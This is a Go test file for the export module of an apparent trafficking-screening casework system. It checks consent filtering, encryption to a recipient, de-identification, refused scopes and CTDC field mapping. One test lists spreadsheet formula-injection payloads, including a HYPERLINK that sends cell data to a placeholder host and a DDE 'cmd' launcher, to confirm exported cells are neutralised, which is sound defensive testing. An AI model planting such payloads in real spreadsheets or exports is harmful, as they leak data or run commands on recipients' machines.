package export

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"maps"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"leeward/internal/office/casework"
	"leeward/internal/screening"
	"leeward/internal/seal"
	"leeward/schema"
	"leeward/schema/instrument"
)

// shelf is an office's records in memory. onRead runs before people are shown.
type shelf struct {
	people    []casework.Told
	facts     []casework.Facts
	withdrawn int64
	onRead    func(*shelf)
	full      error // of the register
	exports   []casework.Exported
}

func (s *shelf) Told(_ context.Context, q casework.ToldQuery, show func(casework.Told) error) error {
	if s.onRead != nil {
		s.onRead(s)
	}
	for _, t := range s.people {
		if q.Code == "" && (t.Opened.Before(q.From) || !t.Opened.Before(q.To)) || q.Code != "" && t.Code != q.Code {
			continue
		}
		if err := show(t); err != nil {
			return err
		}
	}
	return nil
}

func (s *shelf) Facts(_ context.Context, _ int, show func(int, casework.Facts)) error {
	for _, f := range s.facts {
		show(0, f)
	}
	return nil
}

func (s *shelf) Withdrawals(context.Context) (int64, error) { return s.withdrawn, nil }

func (s *shelf) AddExport(_ context.Context, x casework.Exported, withdrawn int64, entry func([32]byte) []byte) (casework.Exported, error) {
	if withdrawn != s.withdrawn {
		return x, casework.ErrChanged
	}
	if s.full != nil {
		return x, s.full
	}
	x.N, x.Entry = int64(len(s.exports)+1), uint64(len(entry([32]byte{})))
	s.exports = append(s.exports, x)
	return x, nil
}

func (s *shelf) office() Office {
	return Office{
		Store: s, Name: "Harbour office", Entry: func(head [32]byte) []byte { return head[:] },
		Now: func() time.Time { return time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC) },
		Form: func(_ context.Context, ref schema.Ref) (*schema.Form, error) {
			if ref != instrument.Form().Ref() {
				return nil, casework.ErrNotFound
			}
			return instrument.Form(), nil
		},
	}
}

// put adds a person who said these things, with what everybody has to say first.
func (s *shelf) put(t testing.TB, code screening.RespondentCode, pairs ...string) {
	t.Helper()
	f := instrument.Form()
	said := map[string]string{"a1": "yes", "a2": "none", "a7": "adult", "b2": "yes", "b3": "named", "b6": "purpose voluntary", "depth": "extended"}
	for i := 0; i < len(pairs); i += 2 {
		said[pairs[i]] = pairs[i+1]
	}
	iv := screening.Interview{ID: screening.NewInterviewID(), Version: 1, Code: code, Questionnaire: f.Ref(), Finished: env.Now, Setting: screening.Setting{Language: "en"}}
	for name, value := range said {
		a := schema.Answer{Value: value}
		if reason, ok := strings.CutPrefix(value, "?"); ok {
			a = schema.Answer{Missing: schema.Missing(reason)}
		}
		iv.Answers = append(iv.Answers, screening.Recorded{Seq: uint64(len(iv.Answers) + 1), Path: named(t, f, name), Answer: a})
	}
	s.people = append(s.people, casework.Told{Case: casework.NewCaseID(), Code: code, Opened: env.Now, Finding: casework.FindingActual, Interview: iv})
}

func ask(shape Shape, scope Scope, key string) Ask {
	a := Ask{Shape: shape, Scope: scope, Purpose: "a study of working hours", To: "Mina Haddad", Key: key, Finding: casework.FindingActual, Lang: "en"}
	if scope == Statistics {
		a.From, a.Until = 2020, 2026
	}
	return a
}

func newKey(t testing.TB) (*seal.Identity, string) {
	t.Helper()
	secret, public, err := seal.NewIdentity()
	if err != nil {
		t.Fatal(err)
	}
	id, err := seal.OpenerFor(secret)
	if err != nil {
		t.Fatal(err)
	}
	return id, public.String()
}

// unpacked is what is in an export, by name.
func unpacked(t testing.TB, body []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		files[f.Name] = string(b)
	}
	return files
}

// Every shape holds those who agreed and nobody else, opens with the one key, and holds neither a text nor a name.
func TestEveryShapeHoldsWhoAgreed(t *testing.T) {
	id, key := newKey(t)
	for _, shape := range Shapes() {
		t.Run(string(shape), func(t *testing.T) {
			var s shelf
			s.put(t, "AAAA-1111", "b5", "yes", "d1", marker, "d11_given", marker, "k7", marker, "d2", "31", "d3", "man", "g2_from", "2023-05-17", "g2_country", "XZ", "g2_area", marker)
			s.put(t, "BBBB-2222", "b5", "no", "d2", "47")
			s.put(t, "CCCC-3333", "d2", "53")                             // no answer is no
			s.put(t, "DDDD-4444", "b5", "yes", "b3", "tally", "d2", "59") // nothing of this was to be kept
			s.put(t, "EEEE-5555", "b5", "yes", "b2", "no", "d2", "61")    // did not agree to talk
			s.put(t, "FFFF-6666", "b5", "yes", "d2", "67")                // of a questionnaire that nobody here knows
			s.people[5].Interview.Questionnaire = schema.Ref{1}
			s.facts = []casework.Facts{
				{Counted: true, Opened: casework.Day(env.Now), Sex: "m", Age: 31, Finding: casework.FindingActual},
				{Opened: casework.Day(env.Now), Age: 47, Finding: casework.FindingActual},
				{Counted: true, Opened: casework.Day(env.Now), Age: 53, Finding: casework.FindingPossible},
			}
			m, err := s.office().Make(t.Context(), "noor", ask(shape, Statistics, key))
			if err != nil || m.People != 1 || m.N != 1 || len(s.exports) != 1 {
				t.Fatalf("%d people, export %d (%v); want one", m.People, m.N, err)
			}
			if want := map[bool]int{true: 1, false: 5}[shape == CTDC]; m.Refuse != want {
				t.Errorf("%d left out, want %d", m.Refuse, want)
			}
			plain, err := id.Open(m.File, 1)
			if err != nil {
				t.Fatal(err)
			}
			files := unpacked(t, plain)
			if about := files["about.txt"]; !strings.Contains(about, "Mina Haddad") || !strings.Contains(about, "a study of working hours") {
				t.Error("about.txt does not say for whom and for what")
			}
			for name, body := range files {
				for _, out := range []string{marker, "AAAA-1111", "2023-05"} {
					if strings.Contains(body, out) {
						t.Errorf("%s holds %q", name, out)
					}
				}
				for _, age := range []string{"47", "53", "59", "61", "67"} {
					if slices.Contains(strings.FieldsFunc(body, func(r rune) bool { return r < '0' || r > '9' }), age) && (name == "people.csv" || name == "records.json" || name == "ctdc.csv") {
						t.Errorf("%s holds somebody of %s who did not agree", name, age)
					}
				}
			}
		})
	}
}

// TestCellsOfRecordsAreNoFormulas: what somebody was told as a name is opened in a spreadsheet one day.
func TestCellsOfRecordsAreNoFormulas(t *testing.T) {
	id, key := newKey(t)
	for _, evil := range []string{`=HYPERLINK("http://x/?"&A1)`, "@SUM(1)", "+1", "-1+cmd|' /C calc'!A0", "\t=1", "|x"} {
		var s shelf
		s.put(t, "AAAA-1111", "b4", "legal", "d11_given", evil, "d2", "31")
		a := ask(HTCDSCSV, "legal", key)
		a.Case = "AAAA-1111"
		m, err := s.office().Make(t.Context(), "noor", a)
		if err != nil {
			t.Fatal(err)
		}
		plain, err := id.Open(m.File, 1)
		if err != nil {
			t.Fatal(err)
		}
		files, marked := unpacked(t, plain), 0
		for name, body := range files {
			if !strings.HasSuffix(name, ".csv") {
				continue
			}
			for _, row := range table(t, []byte(body)) {
				for column, cell := range row {
					if cell != "" && strings.ContainsAny(cell[:1], "=+-@|\t\r\n") {
						t.Errorf("%s, %s: %q acts", name, column, cell)
					}
					if strings.HasPrefix(cell, "'") {
						marked++
					}
				}
			}
		}
		if marked != 1 || !strings.Contains(files["about.txt"], aboutFormulas) {
			t.Errorf("%q: %d cells were made harmless, want the name; or about.txt does not say it", evil, marked)
		}
	}
}

// One person's record goes to a kind of helper that they chose, with the name they let us keep, and with no judgement.
func TestOneRecordForAHelper(t *testing.T) {
	id, key := newKey(t)
	var s shelf
	s.put(t, "AAAA-1111", "b4", "legal health", "d11_given", "Marisol", "d2", "31", "l3", "possible", "g2_country", "XZ", "g2_from", "2023-05-17")
	s.put(t, "BBBB-2222", "b4", "none", "b5", "yes")
	a := ask(HTCDSJSON, "legal", key)
	a.Case = "AAAA-1111"
	m, err := s.office().Make(t.Context(), "noor", a)
	if err != nil || m.Case != s.people[0].Case || m.People != 1 {
		t.Fatalf("%d people (%v), want the one", m.People, err)
	}
	plain, err := id.Open(m.File, 1)
	if err != nil {
		t.Fatal(err)
	}
	var back struct{ Records []map[string]any }
	if err := json.Unmarshal([]byte(unpacked(t, plain)["records.json"]), &back); err != nil || len(back.Records) != 1 {
		t.Fatal(err)
	}
	r := back.Records[0]
	if r["prs_FirstName"] != "Marisol" || r["x_Code"] != "AAAA-1111" || r["vic_TraffickingStatus"] != nil || r["x_Result"] != nil {
		t.Error("want the name, the code, and neither a finding nor a result")
	}
	for scope, code := range map[Scope]screening.RespondentCode{"shelter": "AAAA-1111", "legal": "BBBB-2222"} {
		a.Scope, a.Case = scope, code
		if _, err := s.office().Make(t.Context(), "noor", a); !errors.Is(err, ErrNobody) {
			t.Errorf("%s for %s: got %v, want ErrNobody", scope, code, err)
		}
	}
	if a.Case = "ZZZZ-9999"; len(s.exports) != 1 {
		t.Errorf("%d in the register, want 1", len(s.exports))
	}
	if _, err := s.office().Make(t.Context(), "noor", a); !errors.Is(err, casework.ErrNotFound) {
		t.Errorf("a case that is not there: got %v, want ErrNotFound", err)
	}
}

func TestWhatIsRefused(t *testing.T) {
	_, key := newKey(t)
	var s shelf
	s.put(t, "AAAA-1111", "b5", "yes", "b4", "police embassy family legal")
	for name, c := range map[string]struct {
		change func(*Ask)
		want   error
	}{
		"no shape":         {func(a *Ask) { a.Shape = "xml" }, ErrShape},
		"no scope":         {func(a *Ask) { a.Scope = "" }, ErrScope},
		"police":           {func(a *Ask) { a.Scope, a.Case = "police", "AAAA-1111" }, ErrScope},
		"embassy":          {func(a *Ask) { a.Scope, a.Case = "embassy", "AAAA-1111" }, ErrScope},
		"family":           {func(a *Ask) { a.Scope, a.Case = "family", "AAAA-1111" }, ErrScope},
		"many for helpers": {func(a *Ask) { a.Scope = "legal" }, ErrOne},
		"answers of one":   {func(a *Ask) { a.Scope, a.Case, a.Shape = "legal", "AAAA-1111", AnswersCSV }, ErrOne},
		"one counted":      {func(a *Ask) { a.Case = "AAAA-1111" }, ErrMany},
		"no years":         {func(a *Ask) { a.From = 0 }, ErrMany},
		"years backwards":  {func(a *Ask) { a.Until = 2019 }, ErrMany},
		"no purpose":       {func(a *Ask) { a.Purpose = "" }, ErrPurpose},
		"two lines":        {func(a *Ask) { a.Purpose = "for a study\nand more" }, ErrPurpose},
		"hidden signs":     {func(a *Ask) { a.Purpose = "for a study\u202e of it" }, ErrPurpose},
		"nobody named":     {func(a *Ask) { a.To = "" }, ErrTo},
		"no key":           {func(a *Ask) { a.Key = "" }, ErrKey},
		"a classical key":  {func(a *Ask) { a.Key = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p" }, ErrKey},
		"key and clear":    {func(a *Ask) { a.Clear = true }, ErrKey},
		"both findings":    {func(a *Ask) { a.Shape, a.Finding = CTDC, "" }, ErrFinding},
		"nobody then":      {func(a *Ask) { a.From, a.Until = 2020, 2021 }, ErrNobody},
	} {
		t.Run(name, func(t *testing.T) {
			a := ask(HTCDSCSV, Statistics, key)
			c.change(&a)
			if m, err := s.office().Make(t.Context(), "noor", a); !errors.Is(err, c.want) || m.File != nil || len(s.exports) != 0 {
				t.Errorf("got %v, want %v; nothing made, nothing registered", err, c.want)
			}
		})
	}
}

// Who withdraws while people are read is not in the file; who keeps withdrawing ends it; and nothing leaves that could
// not be registered.
func TestNothingLeavesThatIsNotTrue(t *testing.T) {
	id, key := newKey(t)
	filled := func() *shelf {
		var s shelf
		s.put(t, "AAAA-1111", "b5", "yes", "d2", "31")
		s.put(t, "BBBB-2222", "b5", "yes", "d2", "47")
		return &s
	}
	s := filled()
	reads := 0
	s.onRead = func(s *shelf) {
		if reads++; reads == 2 {
			s.people = s.people[:1]
		}
		if reads == 1 {
			s.withdrawn++ // after it was counted
		}
	}
	m, err := s.office().Make(t.Context(), "noor", ask(HTCDSCSV, Statistics, key))
	if err != nil || m.People != 1 || reads != 2 {
		t.Errorf("%d people after %d readings (%v), want one after two", m.People, reads, err)
	}
	if plain, err := id.Open(m.File, 1); err != nil || strings.Contains(unpacked(t, plain)["people.csv"], ",47,") {
		t.Errorf("who withdrew is in it (%v)", err)
	}

	s = filled()
	s.onRead = func(s *shelf) { s.withdrawn++ }
	if m, err := s.office().Make(t.Context(), "noor", ask(HTCDSCSV, Statistics, key)); !errors.Is(err, casework.ErrChanged) || m.File == nil && len(s.exports) > 0 {
		t.Errorf("got %v, want ErrChanged", err)
	}
	s = filled()
	s.full = errors.New("disk full")
	if m, err := s.office().Make(t.Context(), "noor", ask(HTCDSCSV, Statistics, key)); !errors.Is(err, s.full) || m.File != nil {
		t.Errorf("got %v and %d bytes, want the register's error and no file", err, len(m.File))
	}
}

// In clear only on purpose, and the register says so.
func TestInClear(t *testing.T) {
	var s shelf
	s.put(t, "AAAA-1111", "b5", "yes")
	a := ask(HTCDSCSV, Statistics, "")
	a.Clear = true
	m, err := s.office().Make(t.Context(), "noor", a)
	if err != nil || m.Sealed || m.Key != "" || !strings.Contains(m.String(), "in clear") {
		t.Fatalf("got sealed %v (%v), want a register that says in clear", m.Sealed, err)
	}
	if len(unpacked(t, m.File)["people.csv"]) == 0 {
		t.Error("no people in it")
	}
}

func TestNoDateIsFinerThanAYear(t *testing.T) {
	r := Record{Fields: map[string][]string{"hte_Date": {"2023-05-17", "2023-05"}, "x_Age": {"31"}, "prs_Birthdate": {"2001"}, "x_Seen": {"2023-05-17T10:00:00Z"}}}
	got := r.deidentified("P1").Fields
	want := map[string][]string{"hte_Date": {"2023", "2023"}, "x_Age": {"31"}, "x_Seen": {"2023"}}
	if !maps.EqualFunc(got, want, slices.Equal[[]string]) {
		t.Errorf("got %v, want %v", got, want)
	}
}

// CTDC's classes, one by one.
func TestCTDC(t *testing.T) {
	at := map[string]int{}
	for i, c := range ctdcColumns {
		at[c] = i
	}
	for want, f := range map[string]casework.Facts{
		"ageBroad 0--8": {Age: 8}, "ageBroad 9--17": {Age: 9}, "ageBroad 18--20": {Age: 18}, "ageBroad 39--47": {Age: 47}, "ageBroad 48+": {Age: 48}, "ageBroad ": {},
		"gender Woman": {Sex: "f"}, "gender Man": {Sex: "m"}, "gender Trans/Transgender/NonConforming": {Sex: "x"}, "gender ": {},
		"citizenship MMR": {Nationality: "MM"}, "citizenship ": {Nationality: "??"}, "CountryOfExploitation THA": {Exploited: "TH"},
		"meansDebtBondageEarnings 1": {Means: []string{"pay_withheld"}}, "meansThreats 1": {Means: []string{"threat_law"}}, "meansThreats ": {Means: []string{"debt"}},
		"meansDenyBasicNeeds 1": {Means: []string{"movement"}}, "isForcedLabour 1": {Forms: []string{"begging"}}, "isForcedLabour ": {Forms: []string{"sexual"}},
		"isOtherExploit 1": {Forms: []string{"sexual", "marriage"}}, "typeOfLabourAgriculture 1": {Sector: "A"}, "typeOfLabourAgriculture ": {Sector: "A03"},
		"recruiterRelationOther 1": {Recruited: "agency"}, "recruiterRelationFriend 1": {Recruited: "friend"}, "yearOfRegistration 2026": {Opened: casework.Day(env.Now)},
		"traffickMonths ": {Age: 30},
	} {
		column, value, _ := strings.Cut(want, " ")
		if got := ctdcRow(&f)[at[column]]; got != value {
			t.Errorf("%s: got %q, want %q", column, got, value)
		}
	}
	p := ctdcPeople{}
	for range 3 {
		p.add(&casework.Facts{Age: 30, Sex: "f"})
	}
	table, err := csv.NewReader(strings.NewReader(string(p.file().body))).ReadAll()
	if err != nil || len(table) != 4 || len(table[0]) != 27 {
		t.Errorf("%s rows (%v), want a head and three of 27 columns", strconv.Itoa(len(table)), err)
	}
}
